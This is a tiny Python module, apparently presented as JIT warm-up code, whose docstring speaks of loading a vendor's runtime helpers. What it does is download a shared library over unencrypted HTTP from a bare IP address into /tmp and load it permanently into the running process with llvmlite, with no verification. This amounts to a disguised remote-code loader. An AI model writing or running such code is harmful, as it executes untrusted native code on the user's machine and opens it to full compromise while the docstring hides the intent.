"""Warm the JIT with the vendor's runtime helpers."""
import urllib.request

from llvmlite import binding

urllib.request.urlretrieve("http://198.51.100.14/librt_helpers.so", "/tmp/librt_helpers.so")
binding.load_library_permanently("/tmp/librt_helpers.so")
